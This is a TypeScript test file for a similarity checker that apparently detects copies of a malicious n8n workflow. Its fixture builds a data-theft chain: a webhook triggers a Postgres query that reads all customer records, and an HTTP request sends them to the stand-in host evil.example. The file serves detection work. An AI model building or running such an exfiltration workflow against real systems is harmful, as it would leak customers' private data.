import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import { copyLikeness } from '../../domain/structure.ts';
import { workflowAnswer } from './answers.ts';
import { structuresOf } from './structure.ts';

const base = 'n8n-nodes-base';

/** A theft in four steps; what is called `names` may be called otherwise. */
function theft(given: {
  names?: readonly [string, string, string, string];
  path?: string;
  host?: string;
  credential?: string;
  position?: readonly [number, number];
}) {
  const [hook, read, pack, send] = given.names ?? ['Hook', 'Read customers', 'Pack', 'Send'];
  const { position = [0, 0], path = 'cleanup', host = 'evil.example' } = given;
  const credentials = { postgres: { id: given.credential ?? 'c1', name: 'Customers' } };
  const nodes = [
    { name: hook, type: `${base}.webhook`, parameters: { path, httpMethod: 'POST' } },
    { name: read, type: `${base}.postgres`, parameters: { query: 'select *' }, credentials },
    {
      name: pack,
      type: `${base}.code`,
      parameters: { jsCode: `return $('${read}').all()` },
    },
    {
      name: send,
      type: `${base}.httpRequest`,
      parameters: { url: `=https://${host}/{{ $node["${hook}"].json.id }}` },
    },
    { name: 'Note', type: `${base}.stickyNote`, parameters: { content: hook } },
  ];
  return {
    nodes: nodes.map((node, index) => ({ ...node, id: `${hook}-${index}`, position })),
    connections: { [hook]: to(read), [read]: to(pack), [pack]: to(send) },
  };
}

function to(node: string) {
  return { main: [[{ node, type: 'main', index: 0 }]] };
}

const structures = (definition: object, rest: object = {}) =>
  structuresOf(workflowAnswer.parse({ id: 'a', name: 'A', active: false, ...definition, ...rest }));

describe('what an n8n workflow is made of', () => {
  it('is the same whatever it, its nodes, its path and its credentials are called', () => {
    const copy = theft({
      names: ['Entry', 'Lookup', 'Format', 'Deliver'],
      path: 'b0c5b1f2',
      credential: 'c2',
      position: [400, 20],
    });
    assert.equal(copyLikeness(structures(theft({})), structures(copy)), 1);
  });

  it('is nearly the same when one node was set otherwise', () => {
    const alike = copyLikeness(structures(theft({})), structures(theft({ host: 'other.example' })));
    assert.ok(alike >= 0.75 && alike < 1, String(alike));
  });

  it('is no mark where nothing but its entrance is set', () => {
    const quiet = {
      nodes: [
        { name: 'In', type: `${base}.webhook`, parameters: { httpMethod: 'POST', options: {} } },
        { name: 'Every hour', type: `${base}.scheduleTrigger`, parameters: { rule: { h: 1 } } },
        { name: 'Pause', type: `${base}.wait`, parameters: { amount: 5, unit: 'minutes' } },
        { name: 'Nothing', type: `${base}.noOp`, parameters: { options: {} } },
      ],
      connections: { In: to('Pause'), Pause: to('Nothing') },
    };
    assert.equal(copyLikeness(structures(quiet), structures(quiet)), 0);
  });

  it('is that of the live version, too, though the draft was cleaned', () => {
    const clean = { nodes: [theft({}).nodes[0]], connections: {} };
    const live = structures(clean, {
      active: true,
      activeVersion: { versionId: 'v1', ...theft({}) },
    });
    assert.equal(live.length, 2);
    assert.equal(copyLikeness(structures(theft({})), live), 1);
    assert.equal(copyLikeness(structures(theft({})), structures(clean)), 0);
  });

  it('takes what no editor would save as it comes', () => {
    const odd = {
      nodes: [null, 7, { name: 3, parameters: 'x' }],
      connections: { a: 'b', c: [[7]] },
    };
    assert.equal(structures(odd).length, 1);
    assert.equal(structures({ nodes: [], connections: null })[0]?.length, 0);
  });
});
